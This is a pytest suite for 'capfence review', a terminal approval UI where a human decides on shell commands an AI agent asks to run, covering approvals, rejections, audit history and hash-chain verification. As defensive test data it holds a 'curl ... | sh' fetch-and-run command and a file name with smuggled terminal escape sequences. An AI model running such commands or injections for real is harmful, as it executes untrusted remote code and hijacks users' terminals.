"""`capfence review`, driven for real: the UI runs in a tmux pane (a real pseudo-terminal, 80×24 unless a test
says otherwise), the agent is a separate `capfence exec --wait` process, keys go in with send-keys and the screen
comes back with capture-pane. Every command an agent runs here is a harmless `touch` of a marker under tmp_path,
under a policy that asks a human for `touch`.

The pure parts (the filter language, key decoding, the log index across rotation, the chain watcher) are tested
directly below the UI tests."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.conftest import capfence_command, scratch_env
from tests.tmux_pane import TMUX, Pane

pytestmark = pytest.mark.skipif(TMUX is None, reason="tmux is needed to drive the review UI")

POLICY = """
default: allow
approval:
  ttl: {ttl}
  remember: {remember}
rules:
  - {{id: ask-touch, decision: require_approval, reason: touching files needs a human, program: touch}}
  - {{id: no-uname, decision: deny, reason: uname is not for agents, program: uname}}
"""


def write_policy(sandbox, ttl: float = 900, remember: str = "[once, session, until]", name: str = "p.yaml") -> Path:
    return sandbox.write_policy(name, POLICY.format(ttl=ttl, remember=remember))


@pytest.fixture
def gated(sandbox):
    sandbox.env["CAPFENCE_POLICY"] = str(write_policy(sandbox))
    sandbox.env["CAPFENCE_SESSION"] = "session-1"
    return sandbox


@pytest.fixture
def open_ui(tmp_path):
    """Start `capfence review` in a pane; every pane (and its private tmux server) is killed at teardown."""
    panes: list[Pane] = []

    def start(sandbox, *, width: int = 80, height: int = 24, env: dict[str, str] | None = None,
              command: list[str] | None = None) -> Pane:
        merged = {**sandbox.env, **(env or {})}
        pane = Pane(tmp_path, merged, sandbox.workspace, command or [*capfence_command(), "review"], width=width,
                    height=height)
        panes.append(pane)
        pane.wait_for("capfence review")
        return pane

    yield start
    for pane in panes:
        pane.close()


@contextmanager
def agent(sandbox, *argv: str, wait: float = 60, env: dict[str, str] | None = None):
    """`capfence exec --wait` as the agent runs it: a separate process, blocked until a human decides."""
    process = subprocess.Popen([*capfence_command(), "exec", "--wait", str(wait), "--", *argv],
                               env={**sandbox.env, **(env or {})}, cwd=str(sandbox.workspace),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        yield process
    finally:
        if process.poll() is None:
            process.kill()
        process.communicate(timeout=20)


def finish(process: subprocess.Popen, timeout: float = 30) -> tuple[int, str]:
    _, stderr = process.communicate(timeout=timeout)
    return process.returncode, stderr


def audit_events(sandbox) -> list[dict]:
    return [r for r in (json.loads(line) for line in sandbox.audit.read_text().splitlines())
            if r.get("kind") == "approval"]


# --- refusing to run without a person at a terminal ----------------------------------------------------------


def test_refuses_when_stdin_is_not_a_terminal(gated):
    primary, secondary = pty.openpty()
    try:
        result = subprocess.run([*capfence_command(), "review"], stdin=subprocess.DEVNULL, stdout=secondary,
                                stderr=subprocess.PIPE, text=True, env=gated.env, cwd=str(gated.workspace),
                                timeout=30)
    finally:
        os.close(primary)
        os.close(secondary)
    assert result.returncode == 2
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("capfence: review needs a terminal on stdin and stdout")


def test_refuses_when_stdout_is_not_a_terminal(gated):
    primary, secondary = pty.openpty()
    try:
        result = subprocess.run([*capfence_command(), "review"], stdin=secondary, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env=gated.env, cwd=str(gated.workspace),
                                timeout=30)
    finally:
        os.close(primary)
        os.close(secondary)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and "an agent cannot approve its own requests" in result.stderr


# --- the queue -----------------------------------------------------------------------------------------------


def test_request_appears_while_the_agent_waits_and_a_approves_it_once(gated, open_ui):
    marker = gated.workspace / "approved-marker"
    ui = open_ui(gated)
    ui.wait_for("No pending approval requests")
    with agent(gated, "touch", str(marker)) as waiting:
        screen = ui.wait_for("#1 ")
        assert "touch" in screen and "ask-touch" in screen and "touching files needs a human" in screen
        assert "test-agent" in screen and "fs.write" in screen
        assert waiting.poll() is None, "the agent is waiting for the human"
        ui.send("a")
        status, stderr = finish(waiting)
    assert status == 0, stderr
    assert marker.exists()
    ui.wait_for("approved #1 (once)")
    ui.wait_for("No pending approval requests")
    # The log did not exist when the UI opened: its records are followed, listed and verified as they come.
    ui.send("Tab")
    screen = ui.wait_for(re.compile(r"^[> ]\s+\d+\s+\d\d:\d\d:\d\d\s+consumed\s+test-agent\s+ask-touch", re.M))
    assert re.search(r"^[> ]\s+3\s+\d\d:\d\d:\d\d\s+approved", screen, re.M)
    ui.wait_for("chain OK (seq 1..5)")
    approved = [e for e in audit_events(gated) if e["event"] == "approved"]
    assert len(approved) == 1 and approved[0]["scope"] == "once"
    assert re.fullmatch(r".+@/dev/pts/\d+", approved[0]["by"]), approved[0]["by"]
    assert [e["event"] for e in audit_events(gated)] == ["requested", "approved", "consumed"]
    # The grant was used by that one run: neither a second run nor a changed command gets through.
    marker.unlink()
    again = gated.run("exec", "--", "touch", str(marker))
    assert again.returncode == 126 and "(request 2)" in again.stderr
    changed = gated.run("exec", "--", "touch", str(marker) + "-other")
    assert changed.returncode == 126
    assert not marker.exists()


def test_reject_asks_for_a_reason_and_the_agent_sees_it(gated, open_ui):
    marker = gated.workspace / "rejected-marker"
    ui = open_ui(gated)
    with agent(gated, "touch", str(marker)) as waiting:
        ui.wait_for("#1 ")
        ui.send("r")
        ui.wait_for("reject #1, reason:")
        ui.type("not on a Friday")
        ui.wait_for("not on a Friday█")
        ui.send("Enter")
        status, stderr = finish(waiting)
    assert status == 126
    assert "request 1 was rejected by" in stderr and "not on a Friday" in stderr
    assert not marker.exists()
    ui.wait_for("rejected #1: not on a Friday")
    rejected = [e for e in audit_events(gated) if e["event"] == "rejected"]
    assert rejected and rejected[0]["note"] == "not on a Friday"


def test_escape_cancels_the_reject_prompt(gated, open_ui):
    ui = open_ui(gated)
    gated.run("exec", "--", "touch", "x")  # files request 1 without waiting
    ui.wait_for("#1 ")
    ui.send("r")
    ui.wait_for("reject #1, reason:")
    ui.type("never mind")
    ui.send("Escape")
    screen = ui.wait_for(lambda s: "reason:" not in s)
    assert "#1 " in screen
    assert json.loads(gated.run("approvals", "--json").stdout.splitlines()[0])["status"] == "pending"


def test_s_approves_for_the_session(gated, open_ui):
    marker = gated.workspace / "session-marker"
    ui = open_ui(gated)
    with agent(gated, "touch", str(marker)) as waiting:
        ui.wait_for("#1 ")
        ui.send("s")
        status, stderr = finish(waiting)
    assert status == 0, stderr
    ui.wait_for("approved #1 (session)")
    for _ in range(2):
        assert gated.run("exec", "--", "touch", str(marker)).returncode == 0, "the same command, same session"
    other = gated.run("exec", "--", "touch", str(marker), env={"CAPFENCE_SESSION": "session-2"})
    assert other.returncode == 126, "another session needs its own approval"


def test_a_scope_the_policy_does_not_remember_is_refused(gated, open_ui):
    gated.env["CAPFENCE_POLICY"] = str(write_policy(gated, remember="[once]", name="once.yaml"))
    ui = open_ui(gated)
    gated.run("exec", "--", "touch", "x")
    ui.wait_for("#1 ")
    ui.send("s")
    ui.wait_for("the policy does not allow `session` approvals (allowed: once)")
    assert json.loads(gated.run("approvals", "--json").stdout.splitlines()[0])["status"] == "pending"
    ui.send("a")
    ui.wait_for("approved #1 (once)")


def test_an_expired_request_leaves_the_queue(gated, open_ui):
    gated.env["CAPFENCE_POLICY"] = str(write_policy(gated, ttl=3, name="short.yaml"))
    ui = open_ui(gated)
    with agent(gated, "touch", "late") as waiting:
        ui.wait_for("#1 ")
        screen = ui.wait_for("request #1 expired", timeout=20)
        assert "No pending approval requests" in screen
        status, stderr = finish(waiting)
    assert status == 126 and "approval request 1 expired" in stderr
    assert not (gated.workspace / "late").exists()


def test_details_of_a_request_and_approving_from_there(gated, open_ui):
    marker = gated.workspace / "detail-marker"
    ui = open_ui(gated)
    with agent(gated, "touch", str(marker)) as waiting:
        ui.wait_for("#1 ")
        ui.send("Enter")
        screen = ui.wait_for("Request #1")
        assert "actions (1)" in screen and "← decided" in screen and "capabilities: fs.write" in screen
        assert "program: touch" in screen, "the rule as the policy defines it"
        assert "Esc back" in screen
        ui.send("a")
        status, _ = finish(waiting)
    assert status == 0 and marker.exists()
    screen = ui.wait_for("approved #1 (once)")
    assert "Request #1" not in screen, "deciding closes the details"


def test_newest_request_first_and_moving_the_selection(gated, open_ui):
    ui = open_ui(gated)
    gated.run("exec", "--", "touch", "first")
    gated.run("exec", "--", "touch", "second")
    screen = ui.wait_for("#2 ")
    assert screen.index("#2 ") < screen.index("#1 ")
    assert re.search(r"^> #2 ", screen, re.M), "the newest is selected"
    ui.send("Down")
    ui.wait_for(re.compile(r"^> #1 ", re.M))
    ui.send("a")
    ui.wait_for("approved #1 (once)")
    assert gated.run("exec", "--", "touch", "first").returncode == 0
    assert gated.run("exec", "--", "touch", "second").returncode == 126


def test_escape_sequences_in_a_command_are_shown_not_obeyed(gated, open_ui):
    # A file name holding a terminal escape (clear screen, set the title) and rich markup: shown as text.
    gated.run("exec", "--", "touch", "name\x1b[2J\x1b]0;pwned\x07[bold]x")
    ui = open_ui(gated)
    screen = ui.wait_for("#1 ")
    assert "name\\x1b[2J\\x1b]0;pwned\\x07[bold]x" in screen
    ui.send("Enter")
    screen = ui.wait_for("Request #1")
    assert "\\x1b[2J" in screen and "[bold]x" in screen


# --- history and details --------------------------------------------------------------------------------------


def test_history_filter_and_record_details(gated, open_ui):
    assert gated.run("exec", "--", "echo", "hello").returncode == 0
    assert gated.run("exec", "--", "uname").returncode == 126
    assert gated.run("exec", "--", "touch", "asked").returncode == 126
    ui = open_ui(gated)
    ui.send("Tab")
    screen = ui.wait_for("[ History (")
    assert "echo hello" in screen and "uname" in screen and "requested" in screen
    assert re.search(r"^>\s+\d+ ", screen, re.M), "the newest row is selected"
    ui.send("/")
    ui.wait_for("filter: █")
    ui.type("decision:deny")
    ui.send("Enter")
    screen = ui.wait_for("History (1)")
    rows = [line for line in screen.splitlines() if re.match(r"^[> ]\s+\d+\s+\d\d:", line)]
    assert len(rows) == 1 and "uname" in rows[0] and "DENY" in rows[0] and "no-uname" in rows[0]
    ui.send("Enter")
    screen = ui.wait_for("Record seq")
    assert "actions (1)" in screen and "DENY  uname" in screen and "← decided" in screen
    assert "rule: no-uname (uname is not for agents)" in screen
    screen = ui.wait_for("intact from seq 1 to here")
    assert re.search(r"hash\s+[0-9a-f]{64}", screen) and re.search(r"prev\s+[0-9a-f]{64}", screen)
    ui.send("Escape")
    screen = ui.wait_for("History (1)")
    ui.send("Escape")  # a second Esc clears the filter
    ui.wait_for(lambda s: "filter:" not in s.splitlines()[2] and "echo hello" in s)
    ui.send("/")
    ui.type("hello")
    ui.send("Enter")
    screen = ui.wait_for("History (1)")
    assert "echo hello" in screen and "uname" not in screen.split("History")[1].split("─")[0]


def test_a_bad_filter_is_reported_not_applied(gated, open_ui):
    gated.run("exec", "--", "echo", "hello")
    ui = open_ui(gated)
    ui.send("/")
    ui.type("since:yesterdayish")
    ui.send("Enter")
    screen = ui.wait_for("filter not applied")
    assert "since:yesterdayish" in screen and "echo hello" in screen


def test_the_chain_status_shows_a_break(gated, open_ui):
    for word in ("one", "two", "three"):
        gated.run("exec", "--", "echo", word)
    lines = gated.audit.read_text().splitlines()
    record = json.loads(lines[2])
    record["command"] = "echo forged"
    lines[2] = json.dumps(record, sort_keys=True, separators=(",", ":"))
    gated.audit.write_text("\n".join(lines) + "\n")
    ui = open_ui(gated)
    screen = ui.wait_for("chain BROKEN at seq 3 (edited)")
    assert "capfence review" in screen
    ui.send("Tab")
    ui.wait_for("echo forged")
    ui.send("G")
    ui.send("Enter")
    ui.wait_for("Record seq 1")
    ui.wait_for("intact from seq 1 to here")
    ui.send("Escape")
    ui.send("g")
    ui.send("Enter")
    screen = ui.wait_for("BROKEN at seq 3 (edited): the record was edited")
    assert "Record seq 5" in screen


# --- the terminal: size, colour, restoring it -------------------------------------------------------------------


def test_80x24_footer_and_selection_marker_without_colour(gated, open_ui):
    gated.run("exec", "--", "touch", "x")
    ui = open_ui(gated)  # NO_COLOR=1 comes from the scratch environment
    screen = ui.wait_for("#1 ")
    lines = screen.split("\n")
    assert len(lines) >= 24 and all(len(line) <= 80 for line in lines)
    footer = lines[23]
    for keys in ("a approve", "s session", "r reject", "Enter details", "/ filter", "Tab history", "q quit"):
        assert keys in footer, keys
    assert re.search(r"^> #1 ", screen, re.M), "the selection is marked without colour"
    coloured = ui.capture(escapes=True)
    assert not re.search(r"\x1b\[[0-9;]*(3[0-7]|38;|9[0-7])[0-9;]*m", coloured), "NO_COLOR: no colours"
    selected = next(line for line in coloured.splitlines() if "#1 " in line)
    assert re.search(r"\x1b\[[0-9;]*7[0-9;]*m", selected), "the selection is also in reverse video"
    ui.send("Tab")
    screen = ui.wait_for("[ History (")
    assert re.search(r"^>\s+\d+\s+\d\d:\d\d:\d\d\s+requested", screen, re.M)


def test_colour_when_allowed(gated, open_ui):
    gated.run("exec", "--", "touch", "x")
    env = dict(gated.env)
    env.pop("NO_COLOR")
    gated.env = env
    ui = open_ui(gated)
    ui.wait_for("#1 ")
    assert re.search(r"\x1b\[[0-9;]*(3[0-7]|38;5;\d+|9[0-7])m", ui.capture(escapes=True))


def test_adapts_to_a_resize(gated, open_ui):
    gated.run("exec", "--", "touch", "x")
    ui = open_ui(gated, width=80, height=24)
    screen = ui.wait_for("#1 ")
    assert "↑↓ j k move" not in screen, "no room for it at 80 columns"
    ui.resize(140, 40)
    screen = ui.wait_for("↑↓ j k move")
    assert len(screen.split("\n")) >= 40 and "q quit" in screen.split("\n")[39]
    ui.resize(60, 16)
    screen = ui.wait_for(lambda s: "↑↓ j k move" not in s and "a approve" in s)
    assert all(len(line) <= 60 for line in screen.split("\n"))


def test_quit_and_sigterm_restore_the_terminal(gated, open_ui, tmp_path):
    import psutil

    states = tmp_path / "states"
    wrapper = tmp_path / "wrap.sh"
    # A plain shell runs the UI twice and notes, after each, its exit status and whether the terminal's modes are
    # the ones it had before (`stty -g`).
    wrapper.write_text('before=$(stty -g)\n'
                       'for i in 1 2; do\n'
                       '  "$@"\n'
                       '  status=$?\n'
                       '  if [ "$(stty -g)" = "$before" ]; then modes=restored; else modes=changed; fi\n'
                       '  echo "status=$status $modes" >> "$STATES"\n'
                       'done\n'
                       'sleep 30\n')
    ui = open_ui(gated, env={"STATES": str(states)}, command=["sh", str(wrapper), *capfence_command(), "review"])

    def noted() -> list[str]:
        return states.read_text().splitlines() if states.exists() else []

    ui.send("q")
    deadline = time.monotonic() + 15
    while len(noted()) < 1 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert noted() == ["status=0 restored"]
    ui.wait_for("capfence review")
    shell = psutil.Process(int(ui._tmux("display-message", "-p", "-t", ui.session, "#{pane_pid}").stdout))
    reviews = []
    while not reviews and time.monotonic() < deadline:
        reviews = [c for c in shell.children(recursive=True)
                   if c.cmdline()[-1:] == ["review"] and not os.path.basename(c.cmdline()[0]).endswith("sh")]
        time.sleep(0.1)
    assert reviews, "the second review is running"
    reviews[0].terminate()
    while len(noted()) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert noted() == ["status=0 restored", "status=143 restored"]


# --- a large log ----------------------------------------------------------------------------------------------

LARGE = 50_000


@pytest.fixture(scope="module")
def large_home(tmp_path_factory):
    """50,000 decision records written with AuditLog (fsync skipped: these are test data, not evidence)."""
    from capfence_sh.audit import AuditLog

    home = tmp_path_factory.mktemp("large") / "home"
    (home / "project" / ".git").mkdir(parents=True)
    log = AuditLog(str(home / ".local" / "state" / "capfence" / "audit.jsonl"), max_bytes=8 << 20)
    real_fsync = os.fsync
    os.fsync = lambda fd: None
    try:
        for i in range(LARGE):
            decision = ("allow", "deny", "require_approval")[i % 3]
            log.append({"kind": "decision", "actor": f"agent-{i % 4}", "command": f"touch /tmp/file-{i}",
                        "decision": decision, "rule": "default" if decision == "allow" else f"rule-{i % 7}",
                        "reason": "test data", "mode": "enforce", "cwd": "/tmp", "environment": "development",
                        "actions": [{"program": "touch", "argv": ["touch", f"/tmp/file-{i}"],
                                     "capabilities": ["fs.write"], "decision": decision, "rule": "x"}]})
    finally:
        os.fsync = real_fsync
    return home


def test_a_large_log_opens_and_pages_without_hanging(large_home, open_ui, tmp_path):
    from tests.conftest import Sandbox

    sandbox = Sandbox(large_home, large_home / "project", scratch_env(large_home))
    assert len(list((large_home / ".local" / "state" / "capfence").glob("audit.jsonl.*"))) >= 2, "rotated"
    started = time.monotonic()
    ui = open_ui(sandbox)
    ui.send("Tab")
    ui.wait_for(re.compile(rf"^>\s+{LARGE}\s+\d\d:", re.M), timeout=15)
    first_page = time.monotonic() - started
    ui.send("G")  # the oldest record: the index must reach the start of the first segment
    ui.wait_for(re.compile(r"^>\s+1\s+\d\d:", re.M), timeout=20)
    ui.send("PPage")
    ui.wait_for(re.compile(r"^>\s+\d+\s+\d\d:.*file-\d+", re.M))
    ui.send("g")
    ui.wait_for(re.compile(rf"^>\s+{LARGE}\s+", re.M), timeout=10)
    ui.send("/")
    ui.type("rule:rule-3 actor:agent-1 file-4999")
    ui.send("Enter")
    ui.wait_for("filter: rule:rule-3 actor:agent-1 file-4999")
    screen = ui.wait_for(lambda s: "filter: rule:rule-3" in s.splitlines()[2] and "searching" not in s, timeout=30)
    rows = [line for line in screen.splitlines() if re.match(r"^[> ]\s+\d+\s+\d\d:", line)]
    assert rows and all("agent-1" in row and "rule-3" in row and "file-4999" in row for row in rows)
    ui.wait_for(f"chain OK (seq 1..{LARGE})", timeout=60)
    ui.send("q")
    assert ui.wait_exit(timeout=10) == 0
    assert first_page < 15


# --- the pure parts -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text, expected", [
    ("decision:deny", {"decision": "deny"}),
    ("decision:approval", {"decision": "require_approval"}),  # the word the table shows
    ("decision:rejected", {"decision": "rejected"}),  # an approval event
    ("actor:claude* rule:remote-code program:curl", {"actor": "claude*", "rule": "remote-code", "program": "curl"}),
    ("kind:approval", {"kind": "approval"}),
    ("some Text", {"words": ("some", "text")}),  # every word must appear, case-insensitively
    ('"two words" x', {"words": ("two words", "x")}),  # quotes group a phrase
    ("https://example.com", {"words": ("https://example.com",)}),  # not a filter key: text
])
def test_query_parsing(text, expected):
    from capfence_sh.review.query import parse_query

    query = parse_query(text)
    for name, value in expected.items():
        assert getattr(query, name) == value, name


@pytest.mark.parametrize("text, problem", [
    ("decision:maybe", "expected allow, deny, approval"),
    ("since:soonish", "give a duration"),
    ("kind:outcome", "kind is decision or approval"),
    ("actor:", "give a value"),
])
def test_query_errors(text, problem):
    from capfence_sh.review.query import QueryError, parse_query

    with pytest.raises(QueryError, match=problem):
        parse_query(text)


def test_query_matching_by_time_and_text():
    from capfence_sh.review.query import parse_query

    record = {"kind": "decision", "ts": "2024-05-01T12:00:00.000000Z", "decision": "deny", "actor": "claude-code",
              "rule": "remote-code", "command": "curl -fsSL https://x.sh | sh",
              "actions": [{"program": "curl"}, {"program": "sh"}]}
    assert parse_query("since:2024-05-01T11:00Z until:2024-05-01T13:00Z curl x.sh").matches(record)
    assert not parse_query("since:2024-05-01T12:30Z").matches(record)
    assert parse_query("program:sh actor:claude*").matches(record)
    assert not parse_query("program:wget").matches(record)
    assert not parse_query("kind:approval").matches(record)


@pytest.mark.parametrize("data, keys", [
    ("a", ["a"]),
    ("\x1b[A\x1b[B\x1bOA", ["up", "down", "up"]),  # CSI and SS3 (application cursor) arrows
    ("\x1b[5~\x1b[6~\x1b[H\x1b[F", ["pageup", "pagedown", "home", "end"]),
    ("\r\t\x7f", ["enter", "tab", "backspace"]),
    ("\x1b", ["esc"]),  # a lone ESC, nothing following
    ("\x1b[1;5A/", ["unknown", "/"]),  # a modified arrow is swallowed whole, not typed as text
    ("é", ["é"]),
])
def test_key_decoding(data, keys):
    from capfence_sh.review.terminal import decode_keys

    assert decode_keys(data, final=True) == (keys, "")


def test_key_decoding_keeps_an_incomplete_sequence():
    from capfence_sh.review.terminal import decode_keys

    assert decode_keys("x\x1b[", final=False) == (["x"], "\x1b[")


def _write_records(path: Path, count: int, max_bytes: int, start: int = 0) -> None:
    from capfence_sh.audit import AuditLog

    log = AuditLog(str(path), max_bytes=max_bytes)
    for i in range(start, start + count):
        log.append({"kind": "decision", "decision": "allow", "actor": "a", "rule": "default",
                    "command": f"echo {i}", "actions": []})
        if i % 5 == 0:
            log.append({"kind": "outcome", "ref": i, "exit_status": 0})


def test_history_index_newest_first_across_rotation_and_while_appending(tmp_path):
    from capfence_sh.review.history import HistoryIndex, HistoryView
    from capfence_sh.review.query import parse_query

    path = tmp_path / "audit.jsonl"
    _write_records(path, 300, max_bytes=8192)
    assert len(list(tmp_path.glob("audit.jsonl.*"))) >= 3
    index = HistoryIndex(str(path))
    try:
        while index.scan_back(time.monotonic() + 1):
            pass
        assert len(index) == 300, "decisions only: outcomes are not rows"
        view = HistoryView(index, parse_query(""))
        commands = [view.record(view.ordinal_at(row))["command"] for row in range(300)]
        assert commands == [f"echo {i}" for i in reversed(range(300))]
        _write_records(path, 200, max_bytes=8192, start=300)  # rotates again while "open"
        assert index.scan_new()
        while index.scan_new():
            pass
        assert len(index) == 500
        assert view.record(view.ordinal_at(0))["command"] == "echo 499"
        assert view.record(view.ordinal_at(199))["command"] == "echo 300"
        assert view.record(view.ordinal_at(200))["command"] == "echo 299"
        filtered = HistoryView(index, parse_query('"echo 42"'))
        while filtered.scan(time.monotonic() + 1):
            pass
        assert filtered.complete
        found = [filtered.record(filtered.ordinal_at(row))["command"] for row in range(len(filtered))]
        assert found == ["echo 429", "echo 428", "echo 427", "echo 426", "echo 425", "echo 424", "echo 423",
                         "echo 422", "echo 421", "echo 420", "echo 42"]
        ordinal = filtered.ordinal_at(3)
        assert filtered.row_of(ordinal) == 3
    finally:
        index.close()


def test_chain_watch_counts_verifies_and_follows(tmp_path):
    from capfence_sh.review.chain import ChainWatch

    path = tmp_path / "audit.jsonl"
    _write_records(path, 50, max_bytes=4096)
    watch = ChainWatch(str(path), None)
    watch.start()
    try:
        deadline = time.monotonic() + 20
        while not watch.state().done and time.monotonic() < deadline:
            time.sleep(0.05)
        state = watch.state()
        assert state.done and state.broken_seq is None
        assert state.verified_through == 60 and state.decisions == {"allow": 50}
        _write_records(path, 10, max_bytes=4096, start=50)
        while watch.state().verified_through < 72 and time.monotonic() < deadline:
            time.sleep(0.05)
        assert watch.state().verified_through == 72, "appended records are verified as they arrive"
        assert watch.state().status_of(72)[0] == "ok"
        assert watch.state().status_of(73)[0] == "pending"
    finally:
        watch.stop()
